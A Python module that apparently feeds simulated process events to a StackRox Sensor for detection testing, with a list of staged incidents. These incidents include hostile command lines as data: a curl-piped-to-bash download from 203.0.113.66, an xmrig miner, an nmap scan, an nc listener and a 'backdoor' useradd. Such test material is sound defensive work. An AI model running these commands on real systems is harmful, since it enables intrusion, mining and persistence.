"""Processes of the simulated pods, sent to Sensor over Collector's own stream.

No kernel shows them: they are made up, and every line of the log says so. What Sensor
does with them is real. It must not know the API server.
"""

from __future__ import annotations

import asyncio
import itertools
import uuid
from collections.abc import AsyncIterator, Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import grpc

from pyrox import log
from pyrox.clock import Clock
from pyrox.errors import RoxError
from pyrox.k8s import kinds
from pyrox.mtls.reload import CertFiles, ClientTls
from pyrox.pb.internalapi.sensor.signal_iservice_pb2 import SignalStreamMessage
from pyrox.pb.internalapi.sensor.signal_iservice_pb2_grpc import SignalServiceStub
from pyrox.pb.storage.process_indicator_pb2 import ProcessSignal
from pyrox.rpc.client import Target, secure_channel
from services.local.simulated.store import Json, Store, name_of, namespace_of

_LOG = log.get(__name__)
_SENSOR_NAME = "sensor.stackrox"
_RETRY_SECONDS, _CONNECT_SECONDS = 2.0, 10.0
_PAUSE = 10.0
# Collector shows the first twelve digits of a container's id.
_SHORT_ID = 12
_FIRST_PID = 1000


@dataclass(frozen=True, slots=True)
class Program:
    """One process that starts."""

    path: str
    args: str = ""
    uid: int = 0
    parents: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Incident:
    """Something that a policy may want to hear of, in the first pod of a workload."""

    namespace: str
    app: str
    programs: tuple[Program, ...]


_USUAL = {
    "shop/frontend": (Program("/usr/bin/node", "server.js", 1000),),
    "shop/cart": (Program("/usr/bin/java", "-Xmx512m -jar /srv/cart/cart.jar"),),
    "shop/checkout": (Program("/usr/bin/python3", "/usr/local/bin/gunicorn checkout.wsgi", 1000),),
    "shop/catalog": (Program("/usr/bin/python3", "-m uvicorn catalog:app", 10001),),
    "shop/search": (Program("/usr/bin/java", "-cp /usr/share/search/lib/* search.Main", 1000),),
    "shop/payments": (Program("/srv/payments/run"), Program("/usr/sbin/sshd", "-D")),
    "data/postgres": (Program("/usr/lib/postgresql/13/bin/postgres", "-D /var/lib/postgresql/data", 999),),
    "data/redis": (Program("/usr/bin/redis-server", "*:6379", 999),),
    "edge/nginx": (Program("/usr/sbin/nginx", "-g daemon off;"),),
    "batch/reporter": (Program("/bin/sh", "/srv/report.sh"), Program("/usr/bin/sleep", "infinity")),
    "legacy/intranet": (Program("/usr/sbin/apache2", "-k start"),),
    "ops/toolbox": (Program("/usr/bin/sleep", "infinity"),),
    "kube/coredns": (Program("/coredns", "-conf /etc/coredns/Corefile", 65532),),
    "kube/kube-proxy": (Program("/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"),),
}
INCIDENTS = (
    Incident(
        "shop",
        "frontend",
        (
            Program("/bin/sh", "-c id; uname -a", 1000, ("/usr/bin/node",)),
            Program("/usr/bin/id", "", 1000, ("/bin/sh", "/usr/bin/node")),
        ),
    ),
    Incident(
        "shop",
        "cart",
        (
            Program("/bin/bash", "-c curl http://203.0.113.66/x.sh | bash", 0, ("/usr/bin/java",)),
            Program("/usr/bin/curl", "http://203.0.113.66/x.sh", 0, ("/bin/bash", "/usr/bin/java")),
        ),
    ),
    Incident(
        "batch",
        "worker",
        (Program("/tmp/xmrig", "--donate-level 1 -o pool.example:3333", 0, ("/bin/sh",)),),  # noqa: S108 - a miner's habit
    ),
    Incident(
        "ops",
        "toolbox",
        (
            Program("/usr/bin/apt-get", "install -y tcpdump", 0, ("/bin/bash",)),
            Program("/usr/bin/nmap", "-sS 10.244.0.0/24", 0, ("/bin/bash",)),
        ),
    ),
    Incident(
        "legacy", "intranet", (Program("/bin/nc", "-l -p 4444", 0, ("/bin/bash", "/usr/sbin/apache2")),)
    ),
    Incident("payments", "payments", (Program("/usr/sbin/useradd", "backdoor", 0, ("/bin/sh",)),)),
    Incident("edge", "nginx", (Program("/sbin/iptables", "-L", 0, ("/bin/sh",)),)),
    Incident("data", "postgres", (Program("/usr/bin/crontab", "-e", 999, ("/bin/bash",)),)),
)


class Feeder:
    """The component that plays Collector for the simulated nodes."""

    name = "feeder"

    def __init__(self, *, store: Store, sensor: str, certs: Path, clock: Clock) -> None:
        self._store = store
        self._target = Target(sensor, _SENSOR_NAME)
        self._certs = certs
        self._clock = clock
        self._known: set[str] = set()
        self._pids = itertools.count(_FIRST_PID)

    async def run(self, ready: Callable[[], None]) -> None:
        """Send for ever; a stream that ends is opened again."""
        ready()
        failing = False
        while True:
            try:
                await self._stream()
            except (grpc.aio.AioRpcError, RoxError, OSError, ValueError) as err:
                if not failing:
                    _LOG.info("Sensor does not take simulated processes yet", error=_reason(err))
                failing = True
            else:
                failing = False
            await self._clock.sleep(_RETRY_SECONDS)

    async def _stream(self) -> None:
        tls = ClientTls(authorities=[self._certs / "ca.pem"], certificate=CertFiles.in_directory(self._certs))
        channel = secure_channel(self._target, tls=tls)
        try:
            async with asyncio.timeout(_CONNECT_SECONDS):
                await channel.channel_ready()
            call = SignalServiceStub(channel).PushSignals(self._messages())
            _LOG.info("sending simulated processes; no kernel is watched for them")
            async for _ in call:
                pass
        finally:
            await channel.close(None)

    async def _messages(self) -> AsyncIterator[SignalStreamMessage]:
        """The usual processes of every container, then incidents in turn, for ever."""
        self._known.clear()
        for incident in itertools.cycle(INCIDENTS):
            for signal in [*self._usual(), *self._incident(incident)]:
                message = SignalStreamMessage()
                message.signal.process_signal.CopyFrom(signal)
                yield message
            await self._clock.sleep(_PAUSE)

    def _usual(self) -> Iterator[ProcessSignal]:
        """The programs of containers that are new."""
        for pod in self._store.list(kinds.POD):
            for container in pod.get("status", {}).get("containerStatuses") or []:
                if container["containerID"] not in self._known:
                    self._known.add(container["containerID"])
                    yield from self._signals(container, _programs(str(container["image"])))

    def _incident(self, incident: Incident) -> Iterator[ProcessSignal]:
        for pod in self._store.list(kinds.POD, incident.namespace):
            if (pod["metadata"].get("labels") or {}).get("app") == incident.app:
                for container in pod.get("status", {}).get("containerStatuses") or []:
                    _LOG.info("simulated incident", pod=f"{namespace_of(pod)}/{name_of(pod)}")
                    yield from self._signals(container, incident.programs)
                return

    def _signals(self, container: Json, programs: Sequence[Program]) -> Iterator[ProcessSignal]:
        for program in programs:
            signal = ProcessSignal(
                id=str(uuid.uuid1()),
                container_id=container["containerID"].rpartition("/")[2][:_SHORT_ID],
                name=program.path.rpartition("/")[2],
                args=program.args,
                exec_file_path=program.path,
                pid=next(self._pids),
                uid=program.uid,
                gid=program.uid,
                lineage_info=[
                    ProcessSignal.LineageInfo(parent_uid=program.uid, parent_exec_file_path=path)
                    for path in program.parents
                ],
            )
            signal.time.FromDatetime(self._clock.now())
            yield signal


def _programs(image: str) -> tuple[Program, ...]:
    repository = image.partition("/")[2].partition(":")[0]
    return _USUAL.get(repository, (Program("/entrypoint"),))


def _reason(err: Exception) -> str:
    return err.details() or str(err.code()) if isinstance(err, grpc.aio.AioRpcError) else str(err)
